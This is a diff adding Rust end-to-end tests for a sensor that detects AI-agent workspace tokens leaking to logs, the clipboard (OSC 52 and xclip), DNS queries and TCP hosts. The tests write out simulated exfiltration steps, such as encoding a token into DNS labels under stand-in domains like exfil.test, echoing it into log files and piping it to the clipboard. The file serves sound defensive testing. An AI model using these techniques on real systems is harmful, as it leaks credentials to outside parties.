@@ -1,0 +1,344 @@
+//! The workspace boundary judged end to end through the real CLI: real watched processes
+//! (shell pipelines, ptys, DNS queries, clipboard tools) move a workspace token around;
+//! the sensor must alert where it leaves — a log, the clipboard, DNS, another host — and
+//! stay silent where it does not (`/dev/null`, a pipe into a process of the same
+//! workspace), once per destination, naming each leak's own workspace, and never print
+//! the value.
+
+use std::process::Command;
+use std::time::Duration;
+
+use sensor_tests::*;
+
+const KEY: &str = "00112233445566778899aabbccddeeff";
+
+fn config(dir: &std::path::Path, extra: &str) -> String {
+    let cfg = dir.join("cfg.yaml");
+    std::fs::write(&cfg, format!("fingerprint_key: \"{KEY}\"\n{extra}")).unwrap();
+    cfg.display().to_string()
+}
+
+fn fp(secret: &str) -> String {
+    sensor::redact::Fingerprinter::from_hex(KEY)
+        .unwrap()
+        .fingerprint(secret.as_bytes())
+}
+
+/// Runs a watched agent (the workload copied as `name`) with `steps` and `env`, under a
+/// CLI sensor watching that exe name; returns the sensor's output.
+fn run_agent(tag: &str, name: &str, env: &[(&str, &str)], steps: &[String]) -> (CliOutput, u32) {
+    let dir = temp_dir(tag);
+    let agent = workload_as(&dir, name);
+    let cfg = config(&dir, "");
+    let sensor = CliSensor::start(&["--only-flag-scopes", "--config", &cfg, "--watch-exe", name]);
+    let mut child = Command::new(&agent)
+        .args(steps)
+        .envs(env.iter().copied())
+        .spawn()
+        .unwrap();
+    let pid = child.id();
+    assert!(child.wait().unwrap().success(), "agent failed");
+    std::thread::sleep(Duration::from_millis(700));
+    (sensor.stop(), pid)
+}
+
+fn of_token<'a>(findings: &'a [serde_json::Value], token: &str) -> Vec<&'a serde_json::Value> {
+    let f = fp(token);
+    findings
+        .iter()
+        .filter(|a| a["finding"]["fingerprint"] == f.as_str())
+        .collect()
+}
+
+#[test]
+fn dev_null_and_same_workspace_pipes_are_not_sinks_logs_are() {
+    let token = "0d3c2b1a-9f8e-4d7c-8b6a-5f4e3d2c1b0a";
+    let dir = temp_dir("logs");
+    let log = dir.join("build.log");
+    let err = dir.join("stderr.txt");
+    let steps = vec![
+        // Piped into base64 inside the workspace, whose output goes nowhere.
+        "sh:printf %s \"$CODER_AGENT_TOKEN\" | base64 > /dev/null".to_string(),
+        "sh:echo \"$CODER_AGENT_TOKEN\" > /dev/null".to_string(),
+        format!("sh:echo \"token=$CODER_AGENT_TOKEN\" >> {}", log.display()),
+        format!(
+            "sh:{{ echo \"auth $CODER_AGENT_TOKEN\" >&2; }} 2> {}",
+            err.display()
+        ),
+    ];
+    let (out, pid) = run_agent(
+        "logs-run",
+        "agent-logs",
+        &[("CODER_AGENT_TOKEN", token)],
+        &steps,
+    );
+    assert!(out.status.success(), "{}", out.dump());
+    out.assert_no_leak(&[token]);
+    let findings = out.records("finding");
+    let mine = of_token(&findings, token);
+    // Exactly the two log writes: no pipe, no /dev/null, no base64 of it.
+    assert_eq!(mine.len(), 2, "expected two log alerts:\n{}", out.dump());
+    for a in &mine {
+        assert_eq!(a["verdict"], "log_exposure", "{a}");
+        assert_eq!(a["sink"]["kind"], "log");
+        assert_eq!(a["workspace"]["kind"], "process_tree");
+        assert_eq!(a["workspace"]["root_pid"], pid);
+        assert_eq!(a["chain"]["source"]["kind"], "env");
+        assert_eq!(a["chain"]["source"]["var"], "CODER_AGENT_TOKEN");
+        assert_eq!(a["chain"]["source"]["pid"], pid);
+    }
+    let paths: Vec<&str> = mine
+        .iter()
+        .filter_map(|a| a["sink"]["endpoint"]["path"].as_str())
+        .collect();
+    assert!(paths.contains(&log.to_str().unwrap()), "{paths:?}");
+    assert!(paths.contains(&err.to_str().unwrap()), "{paths:?}");
+    assert!(
+        findings.iter().all(|a| a["sink"]["kind"] != "pipe"),
+        "a same-workspace pipe was alerted:\n{}",
+        out.dump()
+    );
+}
+
+#[test]
+fn osc52_through_a_pty_plain_and_tmux_wrapped_is_a_clipboard_write() {
+    use base64::Engine as _;
+    // A known format (no learning needed) plainly, a learned token tmux-wrapped.
+    let gh = "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";
+    let learned = "c0ffee00-1234-4abc-9def-0123456789ab";
+    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
+    let plain = format!("set:\x1b]52;c;{}\x07", b64(gh));
+    let tmux = format!("set:\x1bPtmux;\x1b\x1b]52;c;{}\x07\x1b\\", b64(learned));
+    let steps = vec![plain, "pty".into(), tmux, "pty".into()];
+    let (out, pid) = run_agent(
+        "osc52",
+        "agent-osc",
+        &[("AGENT_API_TOKEN", learned)],
+        &steps,
+    );
+    assert!(out.status.success(), "{}", out.dump());
+    out.assert_no_leak(&[gh, &b64(gh), learned, &b64(learned)]);
+    let findings = out.records("finding");
+    for (token, detector) in [
+        (gh, "github-personal-access-token"),
+        (learned, "learned:env:AGENT_API_TOKEN"),
+    ] {
+        let mine = of_token(&findings, token);
+        assert_eq!(
+            mine.len(),
+            1,
+            "one clipboard alert for {detector}:\n{}",
+            out.dump()
+        );
+        let a = mine[0];
+        assert_eq!(a["verdict"], "clipboard");
+        assert_eq!(a["sink"]["kind"], "clipboard");
+        assert_eq!(a["sink"]["fd_kind"], "tty");
+        assert_eq!(a["process"]["pid"], pid);
+        assert_eq!(a["finding"]["detector"], detector);
+        assert!(a["mitre"].as_array().unwrap().iter().any(|t| t == "T1115"));
+    }
+    assert!(
+        findings.iter().all(|a| a["verdict"] == "clipboard"),
+        "{}",
+        out.dump()
+    );
+}
+
+#[test]
+fn a_token_in_dns_query_labels_is_exfiltration() {
+    let token = "7c1e9a52-3b4d-4e6f-8a9b-0c1d2e3f4a5b";
+    // A resolver on loopback that answers nothing (the query itself is the leak).
+    let resolver = std::net::UdpSocket::bind("127.0.0.2:53").expect("bind 127.0.0.2:53 (root)");
+    let addr = resolver.local_addr().unwrap();
+    let hex = hex::encode(token);
+    let b32 = data_encoding::BASE32_NOPAD
+        .encode(token.as_bytes())
+        .to_ascii_lowercase();
+    let steps = vec![
+        format!(
+            "dns:{addr}:{}.{}.{}.x.exfil.test",
+            &hex[..30],
+            &hex[30..60],
+            &hex[60..]
+        ),
+        format!(
+            "dns:{addr}:0.{}.{}.collect.example.net",
+            &b32[..29],
+            &b32[29..]
+        ),
+        format!("dns:{addr}:www.example.org"),
+    ];
+    let (out, _) = run_agent("dns", "agent-dns", &[("CODER_AGENT_TOKEN", token)], &steps);
+    assert!(out.status.success(), "{}", out.dump());
+    out.assert_no_leak(&[token, &hex, &b32]);
+    let findings = out.records("finding");
+    let mine = of_token(&findings, token);
+    assert_eq!(
+        mine.len(),
+        2,
+        "one alert per exfiltration domain:\n{}",
+        out.dump()
+    );
+    let mut domains: Vec<&str> = mine
+        .iter()
+        .map(|a| a["sink"]["host"].as_str().unwrap())
+        .collect();
+    domains.sort();
+    assert_eq!(domains, ["example.net", "exfil.test"]);
+    for a in mine {
+        assert_eq!(a["verdict"], "exfiltration");
+        assert_eq!(a["sink"]["kind"], "dns");
+        assert_eq!(a["sink"]["host_source"], "dns");
+        assert!(a["sink"]["dns_query"]
+            .as_str()
+            .unwrap()
+            .ends_with(a["sink"]["host"].as_str().unwrap()));
+        assert_eq!(a["sink"]["endpoint"]["addr"], addr.to_string());
+    }
+}
+
+#[test]
+fn the_same_leak_repeated_is_one_alert_with_its_count() {
+    let token = "5a4b3c2d-1e0f-4a9b-8c7d-6e5f4a3b2c1d";
+    let sink = TcpSink::start();
+    let mut steps = vec![format!("set:X-Agent-Token: {token}\n")];
+    for _ in 0..50 {
+        steps.push(format!("tcp:{}", sink.addr));
+    }
+    let (out, _) = run_agent(
+        "repeat",
+        "agent-rep",
+        &[("CODER_AGENT_TOKEN", token)],
+        &steps,
+    );
+    assert!(out.status.success(), "{}", out.dump());
+    out.assert_no_leak(&[token]);
+    let findings = out.records("finding");
+    let mine = of_token(&findings, token);
+    assert_eq!(mine.len(), 1, "one alert for 50 sends:\n{}", out.dump());
+    let first = mine[0];
+    assert_eq!(first["verdict"], "exfiltration");
+    let repeats = out.records("repeat");
+    let rep: Vec<_> = of_token(&repeats, token);
+    assert_eq!(rep.len(), 1, "one repeat summary:\n{}", out.dump());
+    assert_eq!(rep[0]["count"], 50);
+    assert_eq!(rep[0]["repeat_of"], first["id"]);
+}
+
+#[test]
+fn two_agents_on_one_host_are_two_workspaces() {
+    let dir = temp_dir("two-ws");
+    let a = workload_as(&dir, "agent-alpha");
+    let b = workload_as(&dir, "agent-beta");
+    let cfg = config(&dir, "");
+    let (ta, tb) = (
+        "1a2b3c4d-5e6f-4a1b-9c2d-3e4f5a6b7c8d",
+        "8d7c6b5a-4f3e-4d2c-8b1a-0f9e8d7c6b5a",
+    );
+    let sink = TcpSink::start();
+    let sensor = CliSensor::start(&[
+        "--only-flag-scopes",
+        "--config",
+        &cfg,
+        "--watch-exe",
+        "agent-alpha",
+        "--watch-exe",
+        "agent-beta",
+    ]);
+    let send = |bin: &std::path::Path, mine: &str, other: &str| {
+        Command::new(bin)
+            .args([
+                format!("set:Coder-Session-Token: {mine}\n"),
+                format!("tcp:{}", sink.addr),
+                // The other agent's token (a bare UUID, no known format) means nothing
+                // here: it was not learned in this workspace.
+                format!("set:X-Correlation: {other}\n"),
+                format!("tcp:{}", sink.addr),
+            ])
+            .env("CODER_AGENT_TOKEN", mine)
+            .spawn()
+            .unwrap()
+    };
+    let mut ca = send(&a, ta, tb);
+    let mut cb = send(&b, tb, ta);
+    let (pa, pb) = (ca.id(), cb.id());
+    assert!(ca.wait().unwrap().success() && cb.wait().unwrap().success());
+    std::thread::sleep(Duration::from_millis(700));
+    let out = sensor.stop();
+    assert!(out.status.success(), "{}", out.dump());
+    out.assert_no_leak(&[ta, tb]);
+    let findings = out.records("finding");
+    let fa = of_token(&findings, ta);
+    let fb = of_token(&findings, tb);
+    assert_eq!(
+        (fa.len(), fb.len()),
+        (1, 1),
+        "each agent leaks its own token once:\n{}",
+        out.dump()
+    );
+    assert_eq!(fa[0]["process"]["pid"], pa);
+    assert_eq!(fb[0]["process"]["pid"], pb);
+    assert_eq!(fa[0]["workspace"]["root_pid"], pa);
+    assert_eq!(fb[0]["workspace"]["root_pid"], pb);
+    assert_ne!(fa[0]["workspace"]["id"], fb[0]["workspace"]["id"]);
+    assert!(fa[0]["workspace"]["root_exe"]
+        .as_str()
+        .unwrap()
+        .ends_with("agent-alpha"));
+}
+
+#[test]
+fn xclip_under_xvfb_receiving_a_token_is_a_clipboard_leak() {
+    let token = "3f2e1d0c-9b8a-4f7e-8d6c-5b4a3f2e1d0c";
+    let display = ":97";
+    let mut xvfb = Command::new("Xvfb")
+        .args([display, "-nolisten", "tcp", "-screen", "0", "640x480x24"])
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("Xvfb (Debian package xvfb) must be installed");
+    assert!(
+        wait_for(Duration::from_secs(20), || std::path::Path::new(
+            "/tmp/.X11-unix/X97"
+        )
+        .exists()),
+        "Xvfb did not start"
+    );
+    let steps = vec![
+        "sh:printf %s \"$CODER_AGENT_TOKEN\" | xclip -selection clipboard -loops 1".to_string(),
+    ];
+    // xclip keeps serving the selection until one client has read it: read it once.
+    let reader = std::thread::spawn(move || {
+        std::thread::sleep(Duration::from_millis(1500));
+        let _ = Command::new("xclip")
+            .args(["-selection", "clipboard", "-o"])
+            .env("DISPLAY", display)
+            .stdout(std::process::Stdio::null())
+            .status();
+    });
+    let (out, _) = run_agent(
+        "xclip",
+        "agent-clip",
+        &[("CODER_AGENT_TOKEN", token), ("DISPLAY", display)],
+        &steps,
+    );
+    reader.join().unwrap();
+    let _ = xvfb.kill();
+    let _ = xvfb.wait();
+    assert!(out.status.success(), "{}", out.dump());
+    out.assert_no_leak(&[token]);
+    let findings = out.records("finding");
+    let mine = of_token(&findings, token);
+    assert!(
+        mine.iter()
+            .any(|a| a["verdict"] == "clipboard" && a["sink"]["kind"] == "clipboard"),
+        "no clipboard alert:\n{}",
+        out.dump()
+    );
+    assert!(
+        mine.iter().all(|a| a["verdict"] == "clipboard"),
+        "{}",
+        out.dump()
+    );
+}
